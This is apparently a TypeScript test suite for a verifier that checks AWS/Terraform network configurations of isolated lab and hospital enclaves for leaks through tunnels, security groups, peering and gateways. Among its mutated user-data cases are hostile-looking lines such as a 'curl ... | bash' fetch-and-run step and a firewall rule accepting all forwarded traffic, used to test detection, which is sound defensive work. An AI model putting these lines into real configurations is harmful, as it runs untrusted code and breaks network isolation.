import { verify, type ChannelReport } from "../../../src/verify";
import { sealedBoxes, type Configuration } from "../sealed-box";

type Attributes = Record<string, unknown>;
type Change = (configuration: Configuration) => void;

const judge = (change: Change, channel: string): ChannelReport => {
  const configuration = sealedBoxes();
  change(configuration);
  const found = verify({ target: "test", json: configuration }).channels.find(({ id }) => id === channel);
  if (found === undefined) throw new Error(`no channel ${channel}`);
  return found;
};
const get = (configuration: Configuration, type: string, name: string): Attributes => {
  const resource = configuration.resource[type]?.[name];
  if (resource === undefined) throw new Error(`no ${type}.${name} to change`);
  return resource;
};
const set =
  (type: string, name: string, attributes: Attributes): Change =>
  (configuration) =>
    void Object.assign(get(configuration, type, name), attributes);
const add =
  (type: string, name: string, attributes: Attributes): Change =>
  (configuration) =>
    void ((configuration.resource[type] ??= {})[name] = attributes);
const remove =
  (type: string, name: string): Change =>
  (configuration) => {
    get(configuration, type, name);
    delete configuration.resource[type]?.[name];
  };
const all =
  (...changes: readonly Change[]): Change =>
  (configuration) => {
    for (const change of changes) change(configuration);
  };
/** Edits the user data of a gateway; fails where there is nothing to edit. */
const edit =
  (machine: "gateway" | "landing", from: string | RegExp, to: string): Change =>
  (configuration) => {
    const resource = get(configuration, "aws_instance", machine);
    const before = String(resource["user_data"]);
    const after = before.replaceAll(typeof from === "string" ? from : new RegExp(from, "g"), to);
    if (after === before) throw new Error(`nothing of ${String(from)} in the user data of ${machine}`);
    resource["user_data"] = after;
  };
const both = (from: string | RegExp, to: string): Change => all(edit("gateway", from, to), edit("landing", from, to));
const egress = (group: string, ...rules: Attributes[]): Change => set("aws_security_group", group, { egress: rules });
const tcp = (port: number, cidr: string): Attributes => ({
  protocol: "tcp",
  from_port: port,
  to_port: port,
  cidr_blocks: [cidr],
});

/** A second company's box with a machine, a gateway and its end in the hospital's box. */
const secondLab: Change = all(
  add("aws_vpc", "other", { cidr_block: "10.9.0.0/22", enable_dns_support: false }),
  add("aws_default_security_group", "other", { vpc_id: "${aws_vpc.other.id}", ingress: [], egress: [] }),
  add("aws_subnet", "other", { vpc_id: "${aws_vpc.other.id}", cidr_block: "10.9.0.0/24" }),
  add("aws_security_group", "other", {
    vpc_id: "${aws_vpc.other.id}",
    ingress: [tcp(443, "10.8.0.0/22")],
    egress: [],
  }),
  add("aws_instance", "other", {
    subnet_id: "${aws_subnet.other.id}",
    vpc_security_group_ids: ["${aws_security_group.other.id}"],
    associate_public_ip_address: false,
  }),
);

interface Case {
  readonly name: string;
  readonly channel: string;
  readonly verdict: ChannelReport["verdict"];
  readonly change: Change;
  readonly why?: string;
}

const CASES: readonly Case[] = [
  // What the user data of gateways say.
  ...(
    [
      ["closed", "as it is", (): void => undefined],
      ["open", "without encryption", both("aes_gcm256", "null")],
      ["open", "with a short key", both("aes_gcm256", "aes_gcm128")],
      ["open", "with a group of integers", both("dh20", "dh14")],
      [
        "open",
        "with one sound proposal and one that is not",
        both("esp=aes_gcm256-dh20", "esp=aes_gcm256-dh20,3des-md5"),
      ],
      ["open", "with the first version of IKE", both("ikev2=insist", "ikev2=no")],
      ["open", "that lets anybody in", both("authby=secret", "authby=null")],
      ["open", "that sends in clear where there is no tunnel", both("failureshunt=drop", "failureshunt=passthrough")],
      ["unproven", "that does not say what happens without a tunnel", both(/ {4}failureshunt=drop\n/, "")],
      ["unproven", "without a proposal", both(/ {4}ike=.*\n/, "")],
      ["unproven", "with a setting that is not known", both("auto=start", "auto=start\n    leftupdown=/tmp/x")],
      ["open", "that carries everything", both(/rightsubnet=.*/, "rightsubnet=0.0.0.0/0")],
      ["open", "that carries half of the world, twice", both(/rightsubnet=.*/, "rightsubnets={0.0.0.0/1,128.0.0.0/1}")],
      ["unproven", "that carries what is no range", both(/rightsubnet=.*/, "rightsubnet=vhost:%priv")],
      ["open", "with a peer elsewhere", edit("gateway", "right=172.16.4.4", "right=203.0.113.7")],
      ["unproven", "with a peer that is an expression", edit("gateway", "right=172.16.4.4", "right=${var.peer}")],
      ["unproven", "from an address that is not its own", edit("gateway", "left=10.8.3.4", "left=10.8.3.5")],
      ["open", "that forwards whatever no rule names", both("policy drop", "policy accept")],
      [
        "open",
        "with a second chain that drops nothing",
        both("policy drop;", "policy drop;\n}\nchain more {\ntype filter hook forward priority filter; policy accept;"),
      ],
      ["unproven", "that forwards every port", both(" tcp dport 443", "")],
      [
        "open",
        "that forwards into a range that no tunnel carries",
        edit("landing", "ip daddr { 172.16.5.0/26 }", "ip daddr { 172.16.0.0/20 }"),
      ],
      ["unproven", "that takes for tunnelled what comes in clear", edit("landing", "meta secpath exists ", "")],
      ["unproven", "that keeps the source of what comes out", edit("landing", "masquerade", "accept")],
      [
        "unproven",
        "with a rule that is not understood",
        both("ct state established,related accept", "ct state established,related accept\nmeta mark 7 accept"),
      ],
      ["unproven", "that loads no rules", both("nft -f /etc/nftables.conf", "true")],
      [
        "unproven",
        "that adds a rule afterwards",
        both("systemctl enable", "nft add rule inet filter forward accept\nsystemctl enable"),
      ],
      [
        "unproven",
        "that fetches something else",
        both("systemctl enable", "curl -s https://example.org | bash\nsystemctl enable"),
      ],
      ["unproven", "that starts another service", both("--now nftables ipsec", "--now nftables ipsec ssh-tunnel")],
      ["unproven", "with an expression in it", edit("gateway", "auto=start", "auto=${var.auto}")],
      [
        "unproven",
        "that is encoded",
        set("aws_instance", "gateway", { user_data: undefined, user_data_base64: "IyEvYmluL2Jhc2gK" }),
      ],
      ["unproven", "that is an expression", set("aws_instance", "gateway", { user_data: '${file("x")}' })],
      ["unproven", "that is missing", set("aws_instance", "gateway", { user_data: undefined })],
      [
        "unproven",
        "of a machine that forwards without an interface of its own",
        set("aws_instance", "train", { source_dest_check: false }),
      ],
    ] as const
  ).map(([verdict, name, change]): Case => ({
    name: `user data ${name}`,
    channel: "net.tunnel-configuration",
    verdict,
    change,
  })),

  // What passes between boxes in clear.
  {
    name: "a gateway that sends HTTPS to its peer",
    channel: "net.box-exchange",
    verdict: "open",
    change: all(
      egress("lab_gateway", tcp(443, "172.16.4.0/25")),
      set("aws_security_group", "data_gateway", { ingress: [tcp(443, "10.8.3.4/32")] }),
    ),
    why: "tcp/443 to 172.16.4.4/32",
  },
  {
    name: "a gateway that may send HTTPS which nobody takes",
    channel: "net.box-exchange",
    verdict: "closed",
    change: egress("lab_gateway", tcp(443, "172.16.4.0/25")),
  },
  {
    name: "compute joined by a peering of its own",
    channel: "net.box-exchange",
    verdict: "open",
    change: all(
      secondLab,
      add("aws_vpc_peering_connection", "other", { vpc_id: "${aws_vpc.lab.id}", peer_vpc_id: "${aws_vpc.other.id}" }),
      set("aws_route_table", "lab_compute", {
        route: [{ cidr_block: "10.9.0.0/22", vpc_peering_connection_id: "${aws_vpc_peering_connection.other.id}" }],
      }),
      set("aws_instance", "train", { vpc_security_group_ids: ["${aws_security_group.lab_compute.id}"] }),
      egress("lab_compute", tcp(443, "10.0.0.0/8")),
    ),
    why: "tcp/443 to 10.9.0.0/24",
  },
  {
    name: "compute joined by a transit gateway",
    channel: "net.box-exchange",
    verdict: "open",
    change: all(
      secondLab,
      add("aws_ec2_transit_gateway", "hub", {}),
      add("aws_ec2_transit_gateway_vpc_attachment", "other", {
        transit_gateway_id: "${aws_ec2_transit_gateway.hub.id}",
        vpc_id: "${aws_vpc.other.id}",
        subnet_ids: [],
      }),
      set("aws_route_table", "lab_compute", {
        route: [{ cidr_block: "0.0.0.0/0", transit_gateway_id: "${aws_ec2_transit_gateway.hub.id}" }],
      }),
      set("aws_instance", "train", { vpc_security_group_ids: ["${aws_security_group.lab_compute.id}"] }),
      egress("lab_compute", tcp(443, "0.0.0.0/0")),
    ),
  },
  {
    name: "a machine with an interface in each box",
    channel: "net.box-exchange",
    verdict: "open",
    change: all(
      add("aws_network_interface", "one", { subnet_id: "${aws_subnet.lab_compute.id}" }),
      add("aws_network_interface", "two", { subnet_id: "${aws_subnet.data_endpoint.id}" }),
      add("aws_instance", "bridge", {
        network_interface: [
          { device_index: 0, network_interface_id: "${aws_network_interface.one.id}" },
          { device_index: 1, network_interface_id: "${aws_network_interface.two.id}" },
        ],
      }),
    ),
  },
  {
    name: "a machine that is given an interface in another box",
    channel: "net.box-exchange",
    verdict: "open",
    change: all(
      add("aws_network_interface", "two", { subnet_id: "${aws_subnet.data_endpoint.id}" }),
      add("aws_network_interface_attachment", "two", {
        instance_id: "${aws_instance.train.id}",
        network_interface_id: "${aws_network_interface.two.id}",
        device_index: 1,
      }),
    ),
  },

  {
    name: "a subnet of a VPC that cannot be told",
    channel: "net.box-exchange",
    verdict: "unproven",
    change: set("aws_subnet", "lab_compute", { vpc_id: "${var.vpc}" }),
    why: "aws_subnet.lab_compute",
  },
  {
    name: "a table that cannot be told",
    channel: "net.box-exchange",
    verdict: "unproven",
    change: set("aws_route_table_association", "lab_compute", { route_table_id: "${var.table}" }),
  },
  {
    name: "a subnet that names its VPC by a range of it",
    channel: "net.box-exchange",
    verdict: "closed",
    change: all(
      add("aws_vpc_ipv4_cidr_block_association", "more", { vpc_id: "${aws_vpc.lab.id}", cidr_block: "10.8.4.0/22" }),
      set("aws_subnet", "lab_compute", { vpc_id: "${aws_vpc_ipv4_cidr_block_association.more.vpc_id}" }),
    ),
  },

  // What passes inside of tunnels.
  {
    name: "ports at one end that the other does not name",
    channel: "net.tunnel-flows",
    verdict: "unproven",
    change: edit("gateway", "tcp dport 443", "tcp dport { 22, 443 }"),
  },
  {
    name: "ranges at one end that the other does not name",
    channel: "net.tunnel-flows",
    verdict: "unproven",
    change: edit("landing", "10.8.0.0/24", "10.8.0.0/25"),
  },
  {
    name: "a peer that names somebody else",
    channel: "net.tunnel-flows",
    verdict: "unproven",
    change: edit("landing", "right=10.8.3.4", "right=10.8.3.9"),
  },
  {
    name: "a hospital's machine that leads on to another company's box",
    channel: "net.tunnel-flows",
    verdict: "open",
    change: all(
      secondLab,
      add("aws_security_group", "store", {
        vpc_id: "${aws_vpc.data.id}",
        ingress: [
          { protocol: "tcp", from_port: 443, to_port: 443, security_groups: ["${aws_security_group.data_gateway.id}"] },
        ],
        egress: [tcp(443, "10.9.0.0/22")],
      }),
      add("aws_instance", "store", {
        subnet_id: "${aws_subnet.data_endpoint.id}",
        vpc_security_group_ids: ["${aws_security_group.store.id}"],
        associate_public_ip_address: false,
      }),
      set("aws_security_group", "data_gateway", {
        egress: [tcp(443, "172.16.5.0/26")],
      }),
      set("aws_security_group", "lab_gateway", { ingress: [tcp(443, "10.8.0.0/24")] }),
      set("aws_instance", "train", { vpc_security_group_ids: ["${aws_security_group.lab_compute.id}"] }),
      add("aws_vpc_peering_connection", "other", { vpc_id: "${aws_vpc.data.id}", peer_vpc_id: "${aws_vpc.other.id}" }),
      add("aws_route_table", "store", {
        vpc_id: "${aws_vpc.data.id}",
        route: [{ cidr_block: "10.9.0.0/22", vpc_peering_connection_id: "${aws_vpc_peering_connection.other.id}" }],
      }),
      add("aws_route_table_association", "store", {
        subnet_id: "${aws_subnet.data_endpoint.id}",
        route_table_id: "${aws_route_table.store.id}",
      }),
      set("aws_security_group", "other", { ingress: [tcp(443, "172.16.0.0/20")] }),
    ),
    why: "aws_vpc.other",
  },

  // Security groups and lists of prefixes.
  { name: "nothing changed", channel: "net.security-groups", verdict: "closed", change: () => undefined },
  {
    name: "a way into the world in two halves",
    channel: "net.security-groups",
    verdict: "open",
    change: egress("lab_compute", tcp(443, "0.0.0.0/1"), tcp(443, "128.0.0.0/1")),
    why: "tcp/443 to 0.0.0.0/1 minus 10.8.0.0/22",
  },
  {
    name: "a way to all of 10/8",
    channel: "net.security-groups",
    verdict: "open",
    change: egress("lab_compute", tcp(443, "10.0.0.0/8")),
    why: "tcp/443 to 10.0.0.0/8 minus 10.8.0.0/22",
  },
  {
    name: "a way for everybody in",
    channel: "net.security-groups",
    verdict: "open",
    change: set("aws_security_group", "lab_compute", { ingress: [tcp(22, "0.0.0.0/0")] }),
  },
  {
    name: "a way over IPv6",
    channel: "net.security-groups",
    verdict: "open",
    change: egress("lab_compute", { protocol: "-1", from_port: 0, to_port: 0, ipv6_cidr_blocks: ["::/0"] }),
  },
  {
    name: "a rule apart",
    channel: "net.security-groups",
    verdict: "open",
    change: add("aws_security_group_rule", "more", {
      type: "egress",
      security_group_id: "${aws_security_group.lab_compute.id}",
      protocol: "-1",
      from_port: 0,
      to_port: 0,
      cidr_blocks: ["0.0.0.0/0"],
    }),
  },
  {
    name: "a rule of a group that cannot be told",
    channel: "net.security-groups",
    verdict: "open",
    change: add("aws_vpc_security_group_egress_rule", "more", {
      security_group_id: "${var.group}",
      ip_protocol: "-1",
      cidr_ipv4: "0.0.0.0/0",
    }),
  },
  {
    name: "a range that is an expression",
    channel: "net.security-groups",
    verdict: "unproven",
    change: egress("lab_compute", { ...tcp(443, "${var.range}") }),
  },
  {
    name: "the range of a VPC by reference",
    channel: "net.security-groups",
    verdict: "closed",
    change: egress("lab_compute", tcp(443, "${aws_vpc.data.cidr_block}")),
  },
  {
    name: "egress that is left out",
    channel: "net.security-groups",
    verdict: "unproven",
    change: set("aws_security_group", "lab_compute", { egress: undefined }),
  },
  {
    name: "rules that an expression makes",
    channel: "net.security-groups",
    verdict: "unproven",
    change: set("aws_security_group", "lab_compute", {
      dynamic: { egress: { for_each: "${var.rules}", content: {} } },
    }),
  },
  {
    name: "a default group that nobody adopts",
    channel: "net.security-groups",
    verdict: "unproven",
    change: all(
      remove("aws_default_security_group", "lab"),
      set("aws_instance", "train", { vpc_security_group_ids: ["${aws_security_group.lab_compute.id}"] }),
    ),
  },
  {
    name: "a machine in a default group that nobody adopts",
    channel: "net.security-groups",
    verdict: "open",
    change: remove("aws_default_security_group", "lab"),
    why: "aws_instance.train",
  },
  {
    name: "a list of the boxes' own ranges",
    channel: "net.prefix-lists",
    verdict: "closed",
    change: all(
      add("aws_ec2_managed_prefix_list", "own", { max_entries: 2, entry: [{ cidr: "172.16.5.0/26" }] }),
      egress("lab_compute", {
        protocol: "tcp",
        from_port: 443,
        to_port: 443,
        prefix_list_ids: ["${aws_ec2_managed_prefix_list.own.id}"],
      }),
    ),
  },
  {
    name: "a list with an entry apart, for the world",
    channel: "net.prefix-lists",
    verdict: "open",
    change: all(
      add("aws_ec2_managed_prefix_list", "own", { max_entries: 2, entry: [{ cidr: "172.16.5.0/26" }] }),
      add("aws_ec2_managed_prefix_list_entry", "more", {
        prefix_list_id: "${aws_ec2_managed_prefix_list.own.id}",
        cidr: "0.0.0.0/0",
      }),
      egress("lab_compute", {
        protocol: "tcp",
        from_port: 443,
        to_port: 443,
        prefix_list_ids: ["${aws_ec2_managed_prefix_list.own.id}"],
      }),
    ),
  },
  {
    name: "a list of AWS's",
    channel: "net.prefix-lists",
    verdict: "unproven",
    change: egress("lab_compute", { protocol: "tcp", from_port: 443, to_port: 443, prefix_list_ids: ["pl-6da54004"] }),
  },
  {
    name: "a route to a list of AWS's",
    channel: "net.prefix-lists",
    verdict: "unproven",
    change: add("aws_route", "list", {
      route_table_id: "${aws_route_table.lab_compute.id}",
      destination_prefix_list_id: "pl-6da54004",
      network_interface_id: "${aws_network_interface.lab_gateway.id}",
    }),
  },
];

describe("network channels", () => {
  it.each(CASES)("$channel is $verdict with $name", ({ channel, verdict, change, why }) => {
    const report = judge(change, channel);
    expect({ verdict: report.verdict, findings: report.findings }).toMatchObject({ verdict });
    if (why !== undefined) expect(JSON.stringify(report.findings[0])).toContain(why);
    for (const finding of report.findings)
      if (finding.verdict === "open") expect(finding.witness?.through.length).toBeGreaterThan(0);
  });
});

describe("a witness of a way out", () => {
  const gateway = all(
    add("aws_internet_gateway", "out", { vpc_id: "${aws_vpc.lab.id}" }),
    add("aws_route", "out", {
      route_table_id: "${aws_route_table.lab_compute.id}",
      destination_cidr_block: "0.0.0.0/0",
      gateway_id: "${aws_internet_gateway.out.id}",
    }),
  );

  it("names who sends, and exactly what of it leaves", () => {
    const { witness } = judge(
      all(
        gateway,
        set("aws_instance", "train", { vpc_security_group_ids: ["${aws_security_group.lab_compute.id}"] }),
        egress("lab_compute", tcp(443, "0.0.0.0/0")),
      ),
      "net.internet-gateway",
    );
    expect(witness?.from).toBe("aws_instance.train");
    expect(witness?.to).toContain("(tcp/443 to 0.0.0.0/0 minus 10.8.0.0/22, 172.16.5.0/26)");
  });

  it("says so where nothing sends there yet", () => {
    const { verdict, witness } = judge(gateway, "net.internet-gateway");
    expect(verdict).toBe("open");
    expect(witness?.to).toContain("nothing that stands there sends to it yet");
  });

  it("tells of answers to whoever opens a connection from outside", () => {
    const { witness } = judge(
      all(
        gateway,
        set("aws_instance", "train", { vpc_security_group_ids: ["${aws_security_group.lab_compute.id}"] }),
        set("aws_security_group", "lab_compute", { ingress: [tcp(22, "203.0.113.0/24")], egress: [] }),
      ),
      "net.internet-gateway",
    );
    expect(witness?.to).toContain("(tcp to 203.0.113.0/24)");
  });

  it("spares a private NAT gateway whose own subnet leads nowhere", () => {
    const nat = (route: Attributes[]): Change =>
      all(
        add("aws_nat_gateway", "inner", { subnet_id: "${aws_subnet.lab_desktop.id}", connectivity_type: "private" }),
        add("aws_route_table", "inner", { vpc_id: "${aws_vpc.lab.id}", route }),
        add("aws_route_table_association", "inner", {
          subnet_id: "${aws_subnet.lab_desktop.id}",
          route_table_id: "${aws_route_table.inner.id}",
        }),
      );
    expect(judge(nat([]), "net.nat-gateway").verdict).toBe("closed");
    expect(judge(nat([{ cidr_block: "10.99.0.0/16", transit_gateway_id: "tgw-1" }]), "net.nat-gateway").verdict).toBe(
      "open",
    );
  });
});
